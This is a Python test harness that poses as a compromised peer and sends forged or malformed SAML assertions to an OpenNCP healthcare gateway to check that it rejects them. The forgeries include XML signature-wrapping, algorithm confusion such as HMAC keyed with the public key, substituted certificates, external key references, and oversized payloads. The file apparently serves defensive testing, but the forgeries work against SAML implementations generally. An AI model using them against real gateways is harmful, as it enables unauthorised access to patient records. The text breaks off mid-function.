"""A listed peer that turned false: it holds its own keys, and signs and sends whatever it likes.

    attacker.py PKI WORK [GROUP...]    sends each attack to the gateway of WORK (or those of some groups) and prints what
                                       came back, one JSON object a line
    attacker.py PKI WORK controls      the same for messages that are right in an unusual form

Every attack differs in one thing from a message that is right; the keys are those of `openncp.py prepare`. Whatever an
attack would have fetched lies at an address of this process, which counts who comes. Where WORK names the `process` of the
gateway, each line tells by how many KiB its resident memory grew at most meanwhile.
"""

import base64
import hashlib
import hmac
import itertools
import json
import re
import socket
import ssl
import sys
import threading
import time
import uuid
from datetime import datetime, timedelta, timezone

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
from lxml import etree

import openncp
from openncp import HL7, SAML, attribute, moment, read

DS = "http://www.w3.org/2000/09/xmldsig#"
EXCLUSIVE = "http://www.w3.org/2001/10/xml-exc-c14n#"
INCLUSIVE = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
ENVELOPED = DS + "enveloped-signature"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
WSSE = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
SOAP = "http://www.w3.org/2003/05/soap-envelope"
XCPD = ("XCPD_Service", "urn:hl7-org:v3:PRPA_IN201305UV02:CrossGatewayPatientDiscovery")
LIST = ("XCA_Service", "urn:ihe:iti:2007:CrossGatewayQuery")
RETRIEVE = ("XCA_Service", "urn:ihe:iti:2007:CrossGatewayRetrieve")
EVIL = "Eva ELSE"


class Trap:
    """An address that nobody may ask."""

    def __init__(self):
        self.visits = 0
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
        threading.Thread(target=self.watch, daemon=True).start()

    def watch(self):
        while True:
            visitor, _ = self.socket.accept()
            self.visits += 1
            visitor.close()


TRAP = Trap()
AWAY = f"http://{TRAP.address}"


# MARK: Signing


class Forger:
    def __init__(self, pki):
        self.key = serialization.load_pem_private_key(read(pki, "openncp-seal.key"), None)
        self.certificate = self.encoded(pki, "openncp-seal.pem")
        self.client_key = serialization.load_pem_private_key(read(pki, "openncp-client.key"), None)
        self.client_certificate = self.encoded(pki, "openncp-client.pem")
        self.other_certificate = self.encoded(pki, "fr", "seal-rsa.pem")

    @staticmethod
    def encoded(*parts):
        certificate = x509.load_pem_x509_certificate(read(*parts))
        return base64.b64encode(certificate.public_bytes(serialization.Encoding.DER)).decode()

    def sign(self, text, *, uri=None, transforms=(ENVELOPED, EXCLUSIVE), c14n=EXCLUSIVE, method=MORE + "rsa-sha256",
             digest=SHA256, info=None, key=None, inside="", after="", prefixes=None, value=lambda v: v, mac=False):
        """The assertion with a signature behind its Issuer; `info` is the inside of KeyInfo."""
        root = etree.fromstring(text)
        name = root.get("ID")
        body = etree.tostring(
            root, method="c14n", exclusive=c14n == EXCLUSIVE, with_comments=False,
            inclusive_ns_prefixes=(prefixes or "").split()[:64] if c14n == EXCLUSIVE else None)
        hashed = {SHA256: hashlib.sha256, DS + "sha1": hashlib.sha1}[digest](body).digest()
        steps = "".join(f'<ds:Transform Algorithm="{one}"></ds:Transform>' for one in transforms)
        if prefixes is not None:
            steps = steps.replace(
                f'"{EXCLUSIVE}"></ds:Transform>',
                f'"{EXCLUSIVE}"><ec:InclusiveNamespaces xmlns:ec="{EXCLUSIVE}" PrefixList="{prefixes}">'
                "</ec:InclusiveNamespaces></ds:Transform>")
        signed = (
            f'<ds:SignedInfo xmlns:ds="{DS}"><ds:CanonicalizationMethod Algorithm="{c14n}">'
            f'</ds:CanonicalizationMethod><ds:SignatureMethod Algorithm="{method}"></ds:SignatureMethod>'
            f'<ds:Reference URI="{"#" + name if uri is None else uri}"><ds:Transforms>{steps}</ds:Transforms>'
            f'<ds:DigestMethod Algorithm="{digest}"></ds:DigestMethod>'
            f"<ds:DigestValue>{base64.b64encode(hashed).decode()}</ds:DigestValue></ds:Reference></ds:SignedInfo>")
        octets = etree.tostring(etree.fromstring(signed), method="c14n", exclusive=True)
        if mac:
            public = self.key.public_key().public_bytes(*openncp.SPKI)
            made = hmac.new(public, octets, hashlib.sha256).digest()
        else:
            made = (key or self.key).sign(
                octets, padding.PKCS1v15(), hashes.SHA1() if method.endswith("#rsa-sha1") else hashes.SHA256())
        if info is None:
            info = f"<ds:X509Data><ds:X509Certificate>{self.certificate}</ds:X509Certificate></ds:X509Data>"
        signature = (
            f'<ds:Signature xmlns:ds="{DS}">{signed}{inside}<ds:SignatureValue>'
            f"{base64.b64encode(value(made)).decode()}</ds:SignatureValue>"
            f"{'<ds:KeyInfo>' + info + '</ds:KeyInfo>' if info else ''}{after}</ds:Signature>")
        return text.replace("</saml2:Issuer>", "</saml2:Issuer>" + signature, 1)


# MARK: What is right


def professional(pki):
    """The right HCP assertion, not signed, with its ID."""
    name, text = openncp.professional(pki)
    return name, re.sub(r"<ds:Signature .*</ds:Signature>", "", text, flags=re.S)


def treatment(pki, name, patient):
    _, text = openncp.treatment(pki, name, patient)
    return re.sub(r"<ds:Signature .*</ds:Signature>", "", text, flags=re.S)


def envelope(action, assertions, body, header="", security=""):
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<s:Envelope xmlns:s="{SOAP}"><s:Header xmlns:wsa="http://www.w3.org/2005/08/addressing">\
<wsse:Security xmlns:wsse="{WSSE}">{"".join(assertions)}{security}</wsse:Security>\
<wsa:Action s:mustUnderstand="1">{action}</wsa:Action><wsa:MessageID>urn:uuid:{uuid.uuid4()}</wsa:MessageID>{header}\
</s:Header><s:Body>{body}</s:Body></s:Envelope>"""


# MARK: Assertions


def at(minutes=0, form="%Y-%m-%dT%H:%M:%S.000Z"):
    return (datetime.now(timezone.utc) + timedelta(minutes=minutes)).strftime(form)


def put(name, value):
    """Sets an attribute of the assertion's first element with that attribute."""
    return lambda text: re.sub(rf' {name}="[^"]*"', f' {name}="{value}"', text, count=1)


def swap(old, new, count=1):
    def edit(text):
        assert old in text, old
        return text.replace(old, new, count)

    return edit


def drop(pattern):
    def edit(text):
        assert re.search(pattern, text, re.S), pattern
        return re.sub(pattern, "", text, count=1, flags=re.S)

    return edit


def both(*edits):
    def edit(text):
        for one in edits:
            text = one(text)
        return text

    return edit


XSPA = "urn:oasis:names:tc:xspa:1.0:subject"
SUBJECT = attribute("XSPA Subject", f"{XSPA}:subject-id", EVIL)
PERMISSION = attribute("Hl7 Permissions", f"{XSPA}:hl7:permission", f"{XSPA}:hl7:permission:PRD-006")
AUDIENCE = f"<saml2:Audience>{openncp.AUDIENCE}</saml2:Audience>"
RESTRICTION = f"<saml2:AudienceRestriction>{AUDIENCE}</saml2:AudienceRestriction>"
CLASSES = "urn:oasis:names:tc:SAML:2.0:ac:classes:"
VOUCHES = '<saml2:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:sender-vouches"/>'


def attribute_of(name):
    return rf'<saml2:Attribute [^>]*Name="{re.escape(name)}"[^>]*>.*?</saml2:Attribute>'


def conditions(start, end, inner=RESTRICTION):
    return lambda text: re.sub(
        r"<saml2:Conditions .*?</saml2:Conditions>",
        f'<saml2:Conditions{start and f" NotBefore={chr(34)}{start}{chr(34)}"}'
        f'{end and f" NotOnOrAfter={chr(34)}{end}{chr(34)}"}>{inner}</saml2:Conditions>', text, flags=re.S)


def said():
    """What a signed HCP assertion may not say."""
    yield "version 1.1", put("Version", "1.1")
    yield "no version", drop(r' Version="2.0"')
    yield "issued in two minutes", put("IssueInstant", at(2))
    yield "issued five hours ago", put("IssueInstant", at(-300))
    yield "issued at no zone", put("IssueInstant", at(0, "%Y-%m-%dT%H:%M:%S"))
    yield "issued on a day alone", put("IssueInstant", at(0, "%Y-%m-%d"))
    yield "issued in year 12026", put("IssueInstant", "1" + at())
    yield "issued at a zone of 26 hours", put("IssueInstant", at(0, "%Y-%m-%dT%H:%M:%S+26:00"))
    yield "issued at second 61", put("IssueInstant", at(0, "%Y-%m-%dT%H:%M:61Z"))
    yield "no issue instant", drop(r' IssueInstant="[^"]*"')
    yield "no conditions", drop(r"<saml2:Conditions .*?</saml2:Conditions>")
    yield "conditions without start", conditions("", at(200))
    yield "conditions without end", conditions(at(), "")
    yield "conditions of five hours", conditions(at(-60), at(240))
    yield "conditions that begin in two minutes", conditions(at(2), at(200))
    yield "conditions that ended two minutes ago", conditions(at(-100), at(-2))
    yield "conditions that end before they begin", conditions(at(0), at(-0.5))
    yield "conditions at midnight 24:00", conditions(at(0, "%Y-%m-%dT24:00:00Z"), at(200))
    yield "two conditions", swap("</saml2:Conditions>", f"</saml2:Conditions><saml2:Conditions>{RESTRICTION}</saml2:Conditions>")
    yield "no audience restriction", conditions(at(), at(200), "")
    yield "an empty audience restriction", conditions(at(), at(200), "<saml2:AudienceRestriction/>")
    yield "two audiences", conditions(at(), at(200), RESTRICTION.replace(AUDIENCE, AUDIENCE + "<saml2:Audience>x</saml2:Audience>"))
    yield "a second restriction to others", conditions(
        at(), at(200), RESTRICTION + RESTRICTION.replace(openncp.AUDIENCE, "urn:others"))
    yield "an audience with a blank", swap(openncp.AUDIENCE, openncp.AUDIENCE + " ")
    yield "an audience in capitals", swap(openncp.AUDIENCE, openncp.AUDIENCE.upper())
    yield "an audience that begins right", swap(openncp.AUDIENCE, openncp.AUDIENCE + ":not")
    yield "one time use", conditions(at(), at(200), RESTRICTION + "<saml2:OneTimeUse/>")
    yield "a restriction of proxies", conditions(at(), at(200), RESTRICTION + '<saml2:ProxyRestriction Count="0"/>')
    yield "an unknown condition", conditions(
        at(), at(200), RESTRICTION + '<saml2:Condition xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:type="x"/>')
    yield "another country's issuer", swap("urn:idp:PT:countryB", "urn:idp:ES:countryB")
    yield "the issuer of treatment confirmations", swap("urn:idp:PT:countryB", "urn:initgw:PT:countryB")
    yield "an issuer with a blank", swap("urn:idp:PT:countryB", " urn:idp:PT:countryB")
    yield "a qualifier of no kind", swap("urn:ehdsi:assertions:hcp", "urn:ehdsi:assertions:hcq")
    yield "a qualifier with a blank", swap("urn:ehdsi:assertions:hcp", "urn:ehdsi:assertions:hcp ")
    yield "two issuers", swap("<saml2:Subject>", '<saml2:Issuer NameQualifier="urn:ehdsi:assertions:hcp">x</saml2:Issuer><saml2:Subject>')
    yield "bearer", swap("cm:sender-vouches", "cm:bearer")
    yield "holder of key", swap("cm:sender-vouches", "cm:holder-of-key")
    yield "bearer beside", swap(VOUCHES, VOUCHES + VOUCHES.replace("sender-vouches", "bearer"))
    yield "no confirmation", swap(VOUCHES, "")
    yield "two subjects", swap("</saml2:Subject>", "</saml2:Subject><saml2:Subject><saml2:NameID>x</saml2:NameID></saml2:Subject>")
    yield "no name", drop(r"<saml2:NameID .*?</saml2:NameID>")
    yield "an empty name", swap(">rui.costa<", "><")
    yield "a name of blanks", swap(">rui.costa<", "> <")
    yield "a comment in the name", swap(">rui.costa<", ">rui.costa<!-- x -->.evil<")
    yield "an instruction in the name", swap(">rui.costa<", ">rui.costa<?x?><")
    yield "an element in the name", swap(">rui.costa<", ">rui.costa<x xmlns='urn:x'>.evil</x><")
    yield "an encrypted name", swap("<saml2:Subject>", "<saml2:Subject><saml2:EncryptedID/>")
    yield "two sign-ins", swap(
        "</saml2:AuthnStatement>", f'</saml2:AuthnStatement><saml2:AuthnStatement AuthnInstant="{at()}"><saml2:AuthnContext>'
        f"<saml2:AuthnContextClassRef>{CLASSES}Password</saml2:AuthnContextClassRef></saml2:AuthnContext></saml2:AuthnStatement>")
    yield "no sign-in", drop(r"<saml2:AuthnStatement .*?</saml2:AuthnStatement>")
    yield "a sign-in of yesterday", put("AuthnInstant", at(-25 * 60))
    yield "a sign-in of tomorrow", put("AuthnInstant", at(24 * 60))
    yield "a password", swap(CLASSES + "SmartcardPKI", CLASSES + "Password")
    yield "a smart card alone", swap(CLASSES + "SmartcardPKI", CLASSES + "Smartcard")
    yield "a previous session", swap(CLASSES + "SmartcardPKI", CLASSES + "PreviousSession")
    yield "a context with a blank", swap(CLASSES + "SmartcardPKI", CLASSES + "SmartcardPKI ")
    yield "a comment in the context", swap(CLASSES + "SmartcardPKI", CLASSES + "Smartcard<!---->PKI<!-- -->x")
    yield "two names of the professional", swap("<saml2:AttributeStatement>", "<saml2:AttributeStatement>" + SUBJECT)
    yield "two values of the name", swap("Rui COSTA</saml2:AttributeValue>", f"Rui COSTA</saml2:AttributeValue><saml2:AttributeValue>{EVIL}</saml2:AttributeValue>")
    yield "no professional's name", drop(attribute_of(f"{XSPA}:subject-id"))
    yield "a blank name", swap("Rui COSTA", " ")
    yield "a name with a blank around", swap("Rui COSTA", " Rui COSTA")
    yield "a name with a line end", swap("Rui COSTA", "Rui COSTA&#10;")
    yield "a comment in the professional's name", swap("Rui COSTA", "Rui<!-- --> COSTA")
    yield "attributes in two statements", swap(
        "</saml2:AttributeStatement>", f"</saml2:AttributeStatement><saml2:AttributeStatement>{SUBJECT}</saml2:AttributeStatement>")
    yield "an encrypted attribute", swap("<saml2:AttributeStatement>", "<saml2:AttributeStatement><saml2:EncryptedAttribute/>")
    yield "an unknown role", swap('code="221"', 'code="9999"')
    yield "a role without clinical duty", both(swap('code="221"', 'code="44"'), swap("Medical Doctors", "Other Clerical Support Workers"))
    yield "a role with another name", swap("Medical Doctors", "Dentists")
    yield "a role of another code system", swap("2.16.840.1.113883.2.9.6.2.7", "2.16.840.1.113883.2.9.6.2.8")
    yield "a role in another namespace", swap(f'<Role xmlns="{HL7}"', '<Role xmlns="urn:x"')
    yield "two roles in one value", swap("<Role ", f'<Role xmlns="{HL7}" code="2261" codeSystem="2.16.840.1.113883.2.9.6.2.7" codeSystemName="ISCO" displayName="Dentists"/><Role ')
    yield "a role as text", lambda text: re.sub(r"<Role [^>]*/>", "221", text)
    yield "no role", drop(attribute_of("urn:oasis:names:tc:xacml:2.0:subject:role"))
    yield "the purpose of payment", lambda text: text.replace('code="EMERGENCY"', 'code="PAYMENT"')
    yield "no purpose", drop(attribute_of(f"{XSPA}:purposeofuse"))
    yield "two purposes", swap("<PurposeOfUse ", f'<PurposeOfUse xmlns="{HL7}" code="TREATMENT"/><PurposeOfUse ')
    yield "no locality", drop(attribute_of("urn:oasis:names:tc:xspa:1.0:environment:locality"))
    yield "an unknown facility", swap(">Hospital</saml2:AttributeValue>", ">Casino</saml2:AttributeValue>")
    yield "no permission to identify", swap(f"{XSPA}:hl7:permission:PRD-006", f"{XSPA}:hl7:permission:PRD-007")
    yield "permissions in two attributes", swap("</saml2:AttributeStatement>", PERMISSION + "</saml2:AttributeStatement>")
    yield "a permission without prefix", swap(f"{XSPA}:hl7:permission:PRD-006", "PRD-006")
    yield "an attribute of another format", swap("attrname-format:uri", "attrname-format:basic")
    yield "an attribute without value", lambda text: re.sub(r"(subject-id\"[^>]*>)<saml2:AttributeValue>.*?</saml2:AttributeValue>", r"\1", text, count=1)
    yield "two organisations", swap("</saml2:AttributeStatement>", attribute("XSPA Organization", f"{XSPA}:organization", "Another") + "</saml2:AttributeStatement>")
    yield "another home community", swap("</saml2:AttributeStatement>", attribute("HCI Identifier", "urn:ihe:iti:xca:2010:homeCommunityId", "urn:oid:2.999.724.1") + "</saml2:AttributeStatement>")
    yield "a decision besides", swap(
        "</saml2:AttributeStatement>", '</saml2:AttributeStatement><saml2:AuthzDecisionStatement Decision="Permit" Resource="x"><saml2:Action Namespace="x">x</saml2:Action></saml2:AuthzDecisionStatement>')
    xsi = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    value = "<saml2:AttributeValue>Rui COSTA<"
    yield "a value that is nil", swap(value, f'<saml2:AttributeValue {xsi} xsi:nil="true">Rui COSTA<')
    yield "a value of another type", swap(value, f'<saml2:AttributeValue {xsi} xsi:type="x:secret" xmlns:x="urn:x">Rui COSTA<')
    yield "conditions of another type", swap("<saml2:Conditions ", f'<saml2:Conditions {xsi} xsi:type="x:none" xmlns:x="urn:x" ')
    yield "a name of another type", swap("<saml2:NameID ", f'<saml2:NameID {xsi} xsi:type="saml2:EncryptedElementType" ')
    yield "a schema from elsewhere", swap("<saml2:Subject>", f'<saml2:Subject {xsi} xsi:schemaLocation="urn:x {AWAY}/x.xsd">')
    yield "no qualifier", swap(' NameQualifier="urn:ehdsi:assertions:hcp"', "")
    yield "an empty qualifier", swap("urn:ehdsi:assertions:hcp", "")
    yield "a qualifier in a namespace", swap(" NameQualifier=", f' xmlns:q="{SAML}" q:NameQualifier=')
    yield "a subject behind the conditions", lambda text: re.sub(
        r"(<saml2:Subject>.*?</saml2:Subject>)(<saml2:Conditions .*?</saml2:Conditions>)", r"\2\1", text, flags=re.S)
    yield "attributes of another namespace", swap("<saml2:AttributeStatement>", '<saml2:AttributeStatement xmlns:saml2="urn:x">')
    yield "an attribute of another namespace", swap(
        "<saml2:AttributeStatement>", f'<saml2:AttributeStatement><Attribute xmlns="urn:x" Name="{XSPA}:subject-id"/>')
    yield "text between attributes", swap("<saml2:AttributeStatement>", "<saml2:AttributeStatement>x")
    yield "text between statements", swap("<saml2:AuthnStatement", "x<saml2:AuthnStatement")
    yield "a sign-in without context", lambda text: re.sub(r"<saml2:AuthnContext>.*?</saml2:AuthnContext>", "", text, flags=re.S)
    yield "a declared context", swap("<saml2:AuthnContextClassRef>", "<saml2:AuthnContextDeclRef>urn:x</saml2:AuthnContextDeclRef><saml2:AuthnContextClassRef>")
    yield "an authority of the sign-in", swap("</saml2:AuthnContext>", "<saml2:AuthenticatingAuthority>urn:x</saml2:AuthenticatingAuthority></saml2:AuthnContext>")
    yield "a confirmation until yesterday", swap(VOUCHES, VOUCHES.replace(
        "/>", f'><saml2:SubjectConfirmationData NotOnOrAfter="{at(-1440)}"/></saml2:SubjectConfirmation>'))
    yield "a confirmation for another address", swap(VOUCHES, VOUCHES.replace(
        "/>", '><saml2:SubjectConfirmationData Recipient="https://es.localhost/"/></saml2:SubjectConfirmation>'))
    yield "a confirmation by a key", swap(VOUCHES, VOUCHES.replace(
        "/>", f'><saml2:SubjectConfirmationData><ds:KeyInfo xmlns:ds="{DS}"/></saml2:SubjectConfirmationData></saml2:SubjectConfirmation>'))
    yield "a confirmation by another", swap(VOUCHES, VOUCHES.replace(
        "/>", "><saml2:NameID>eva.else</saml2:NameID></saml2:SubjectConfirmation>"))
    yield "a session that has ended", swap("<saml2:AuthnStatement ", f'<saml2:AuthnStatement SessionNotOnOrAfter="{at(-1)}" ')
    yield "a name of 1001 bytes", swap("Rui COSTA", "R" * 1001)
    yield "a name of two megabytes", swap("Rui COSTA", "R" * (2 << 20))
    yield "a thousand permissions", swap(
        f"{XSPA}:hl7:permission:PRD-006</saml2:AttributeValue>", f"{XSPA}:hl7:permission:PRD-006</saml2:AttributeValue>"
        + "<saml2:AttributeValue>x</saml2:AttributeValue>" * 1000)
    yield "ten thousand values", swap(
        f"{XSPA}:hl7:permission:PRD-006</saml2:AttributeValue>", f"{XSPA}:hl7:permission:PRD-006</saml2:AttributeValue>"
        + f"<saml2:AttributeValue>{XSPA}:hl7:permission:PRD-007</saml2:AttributeValue>" * 10_000)
    yield "an identifier with a colon", lambda text: re.sub(r'ID="_', 'ID="urn:', text)
    yield "an identifier that begins with a digit", lambda text: re.sub(r'ID="_', 'ID="1', text)
    yield "an instruction between", swap("<saml2:Subject>", "<?x y?><saml2:Subject>")


def signed(forger, text):
    """Signatures that are right by themselves and not of the profile."""
    certificate = f"<ds:X509Certificate>{forger.certificate}</ds:X509Certificate>"
    client = f"<ds:X509Data><ds:X509Certificate>{forger.client_certificate}</ds:X509Certificate></ds:X509Data>"
    other = f"<ds:X509Certificate>{forger.other_certificate}</ds:X509Certificate>"
    sign = forger.sign
    numbers = forger.key.public_key().public_numbers()
    modulus = base64.b64encode(numbers.n.to_bytes(256, "big")).decode()
    value = f"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{modulus}</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"
    yield "none", text
    yield "the whole document", sign(text, uri="")
    yield "an XPointer", sign(text, uri="#xpointer(/)")
    yield "an XPointer to the id", sign(text, uri=f"#xpointer(id('{etree.fromstring(text).get('ID')}'))")
    yield "another document", sign(text, uri=f"{AWAY}/x")
    yield "a part by cid", sign(text, uri="cid:x")
    yield "transforms the other way round", sign(text, transforms=(EXCLUSIVE, ENVELOPED))
    yield "no enveloped transform", sign(text, transforms=(EXCLUSIVE,))
    yield "no canonical form", sign(text, transforms=(ENVELOPED,))
    yield "the enveloped transform twice", sign(text, transforms=(ENVELOPED, ENVELOPED, EXCLUSIVE))
    yield "base64", sign(text, transforms=(ENVELOPED, DS + "base64", EXCLUSIVE))
    yield "XPath", sign(text, transforms=(ENVELOPED, "http://www.w3.org/TR/1999/REC-xpath-19991116", EXCLUSIVE))
    yield "inclusive form", sign(text, transforms=(ENVELOPED, INCLUSIVE), c14n=INCLUSIVE)
    yield "with comments", sign(text, transforms=(ENVELOPED, EXCLUSIVE + "WithComments"))
    yield "SHA-1", sign(text, method=DS + "rsa-sha1")
    yield "a digest of SHA-1", sign(text, digest=DS + "sha1")
    yield "said to be ECDSA", sign(text, method=MORE + "ecdsa-sha256")
    yield "said to be SHA-384", sign(text, method=MORE + "rsa-sha384")
    yield "said to be PSS", sign(text, method="http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1")
    yield "HMAC by the public key", sign(text, method=MORE + "hmac-sha256", mac=True)
    yield "said to be none", sign(text, method="none")
    yield "an unknown method", sign(text, method=MORE + "rsa-sha256 ")
    yield "by the TLS client", sign(text, key=forger.client_key, info=client)
    yield "by the TLS client under the seal's name", sign(text, key=forger.client_key)
    yield "no key information", sign(text, info="")
    yield "a key alone", sign(text, info=value)
    yield "a key beside the certificate", sign(text, info=f"<ds:X509Data>{certificate}</ds:X509Data>{value}")
    yield "a name of a key alone", sign(text, info="<ds:KeyName>seal</ds:KeyName>")
    yield "a retrieval method", sign(text, info=f'<ds:RetrievalMethod URI="{AWAY}/key"/>')
    yield "two certificates", sign(text, info=f"<ds:X509Data>{certificate}{other}</ds:X509Data>")
    yield "two certificates the other way round", sign(text, info=f"<ds:X509Data>{other}{certificate}</ds:X509Data>")
    yield "two X509Data", sign(text, info=f"<ds:X509Data>{certificate}</ds:X509Data><ds:X509Data>{other}</ds:X509Data>")
    yield "another's certificate", sign(text, info=f"<ds:X509Data>{other}</ds:X509Data>")
    yield "an object", sign(text, after=f"<ds:Object>{text.replace('ID=', 'Id=')}</ds:Object>")
    yield "a manifest", sign(text, after="<ds:Object><ds:Manifest/></ds:Object>")
    yield "a second value", sign(text, inside="<ds:SignatureValue>AAAA</ds:SignatureValue>")
    yield "one byte more", sign(text, value=lambda made: made + b"\0")
    yield "one zero before", sign(text, value=lambda made: b"\0" + made)
    yield "one byte less", sign(text, value=lambda made: made[:-1])
    yield "no value", sign(text, value=lambda made: b"")
    yield "a comment in the digest", re.sub(r"(<ds:DigestValue>.{8})", r"\1<!-- -->", sign(text))
    yield "a comment in the value", re.sub(r"(<ds:SignatureValue>.{8})", r"\1<!-- -->", sign(text))
    yield "an instruction in the value", re.sub(r"(<ds:SignatureValue>.{8})", r"\1<?x?>", sign(text))
    yield "the signature last", (lambda whole: re.sub(r"(<ds:Signature .*</ds:Signature>)(.*)(</saml2:Assertion>)", r"\2\1\3", whole, flags=re.S))(sign(text))
    yield "the signature twice", (lambda whole: re.sub(r"(<ds:Signature .*</ds:Signature>)", r"\1\1", whole, flags=re.S))(sign(text))
    yield "a namespace that is relative", sign(text).replace("<saml2:Subject>", '<saml2:Subject xmlns:r="relative">')
    yield "another name after signing", sign(text).replace("Rui COSTA", EVIL)
    yield "another attribute after signing", sign(text).replace(' Version="2.0"', ' Version="2.0" x="y"')
    yield "a default of another namespace", sign(text).replace("<saml2:Subject>", '<saml2:Subject xmlns:saml2="urn:x">').replace("</saml2:Subject>", "</saml2:Subject>")


def wrapped(forger, name, text):
    """Forged assertions beside, around and inside a signed one: assertions, header blocks, what is put in the body."""
    whole = forger.sign(text)
    signature = re.search(r"<ds:Signature .*</ds:Signature>", whole, re.S)[0]
    same = text.replace("Rui COSTA", EVIL).replace("rui.costa", "eva.else")
    evil = same.replace(name, "_evil")
    bearing = lambda base, made: base.replace("</saml2:Issuer>", "</saml2:Issuer>" + made, 1)
    yield "original inside its signature of the forged", [bearing(evil, signature.replace("</ds:Signature>", f"<ds:Object>{text}</ds:Object></ds:Signature>"))], "", ""
    yield "original in advice", [bearing(evil.replace("<saml2:AuthnStatement", f"<saml2:Advice>{whole}</saml2:Advice><saml2:AuthnStatement", 1), signature)], "", ""
    yield "original without signature in advice", [bearing(evil.replace("<saml2:AuthnStatement", f"<saml2:Advice>{text}</saml2:Advice><saml2:AuthnStatement", 1), signature)], "", ""
    yield "original in evidence", [bearing(evil.replace("</saml2:Assertion>", f'<saml2:AuthzDecisionStatement Decision="Permit" Resource="x"><saml2:Evidence>{whole}</saml2:Evidence></saml2:AuthzDecisionStatement></saml2:Assertion>'), signature)], "", ""
    yield "original as an attribute value", [bearing(evil.replace("</saml2:AttributeStatement>", f'<saml2:Attribute Name="x"><saml2:AttributeValue>{whole}</saml2:AttributeValue></saml2:Attribute></saml2:AttributeStatement>'), signature)], "", ""
    yield "original in the subject's confirmation", [bearing(evil.replace(VOUCHES, VOUCHES.replace("/>", f"><saml2:SubjectConfirmationData>{whole}</saml2:SubjectConfirmationData></saml2:SubjectConfirmation>")), signature)], "", ""
    yield "original as another header block", [bearing(evil, signature)], whole, ""
    yield "original in the body", [bearing(evil, signature)], "", whole
    yield "original last in Security, same id", [bearing(same, signature), whole], "", ""
    yield "original first in Security, same id", [whole, bearing(same, signature)], "", ""
    yield "original in a block of Security, same id", [bearing(same, signature), f"<w>{whole}</w>"], "", ""
    yield "forged alone with the signature, same id", [bearing(same, signature)], "", ""
    yield "forged in a Security for another", [whole], f'<wsse:Security xmlns:wsse="{WSSE}" s:role="urn:x">{bearing(same, signature)}</wsse:Security>', ""
    yield "forged in a second Security", [whole], f'<wsse:Security xmlns:wsse="{WSSE}">{forger.sign(evil)}</wsse:Security>', ""
    yield "original under xml:id", [bearing(evil, signature)], f'<w xmlns="urn:w" xml:id="{name}">{text}</w>', ""
    yield "original under wsu:Id", [bearing(evil, signature)], f'<w xmlns="urn:w" xmlns:u="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd" u:Id="{name}"/>', ""
    yield "the id once more in the body", [whole], "", f'<w xmlns="urn:w" Id="{name}"/>'
    yield "the id once more in the header", [whole], f'<w xmlns="urn:w" ID="{name}"/>', ""
    yield "assertion without Security around", [], whole, ""
    yield "signed statement moved up", [bearing(evil, signature).replace("<saml2:Subject>", f'<x xmlns="urn:x">{text}</x><saml2:Subject>')], "", ""
    yield "SAML 1.1 name around", [f'<a:Assertion xmlns:a="urn:oasis:names:tc:SAML:1.0:assertion" AssertionID="{name}x">{whole}</a:Assertion>'], "", ""
    yield "an encrypted one besides", [whole, f'<saml2:EncryptedAssertion xmlns:saml2="{SAML}"/>'], "", ""
    yield "one that names no kind besides", [whole, forger.sign(evil.replace(' NameQualifier="urn:ehdsi:assertions:hcp"', ""))], "", ""


def certified(forger, pki, text):
    """Signatures by the pinned key of the seal, under other certificates of it."""
    for name, made in variants(pki, forger.key, "seal"):
        encoded = base64.b64encode(made).decode()
        yield name, forger.sign(text, info=f"<ds:X509Data><ds:X509Certificate>{encoded}</ds:X509Certificate></ds:X509Data>")


def variants(pki, key, use):
    """Certificates of one key, each with one fault: name and DER."""
    authority = x509.load_pem_x509_certificate(read(pki, "pt", "ca.pem"))
    authority_key = serialization.load_pem_private_key(read(pki, "pt", "authority", "ca.key"), None)
    stranger = x509.load_pem_x509_certificate(read(pki, "stranger", "ca.pem"))
    stranger_key = serialization.load_pem_private_key(read(pki, "stranger", "authority", "ca.key"), None)
    now = datetime.now(timezone.utc)
    extended = [ExtendedKeyUsageOID.CLIENT_AUTH] if use == "client" else []

    def make(subject=(("C", "PT"), ("O", "Test"), ("CN", "test")), issuer=authority, issuer_key=authority_key, start=-1,
             days=20, usages=("digital_signature",), extended=extended, ca=False, constrained=True, identified=True,
             digest=hashes.SHA256(), more=(), serial=None, named=None):
        oids = {"C": NameOID.COUNTRY_NAME, "O": NameOID.ORGANIZATION_NAME, "CN": NameOID.COMMON_NAME}
        built = (
            x509.CertificateBuilder()
            .subject_name(x509.Name([x509.NameAttribute(oids[kind], value) for kind, value in subject]))
            .issuer_name(named or issuer.subject).public_key(key.public_key())
            .serial_number(serial or x509.random_serial_number())
            .not_valid_before(now + timedelta(days=start)).not_valid_after(now + timedelta(days=days)))
        if constrained:
            built = built.add_extension(x509.BasicConstraints(ca, None), True)
        if usages:
            built = built.add_extension(x509.KeyUsage(**openncp.usage(**{name: True for name in usages})), True)
        if extended:
            built = built.add_extension(x509.ExtendedKeyUsage(extended), False)
        if identified:
            built = built.add_extension(
                x509.AuthorityKeyIdentifier.from_issuer_public_key(issuer_key.public_key()), False)
        for extension, critical in more:
            built = built.add_extension(extension, critical)
        return built.sign(issuer_key, digest).public_bytes(serialization.Encoding.DER)

    revoked = next(iter(x509.load_pem_x509_crl(read(pki, "pt.crl")))).serial_number
    good = make()
    yield "of another authority", make(issuer=stranger, issuer_key=stranger_key)
    yield "of another authority under the right name", make(
        issuer=stranger, issuer_key=stranger_key, named=authority.subject)
    yield "of itself", make(issuer_key=key, named=x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "test")]))
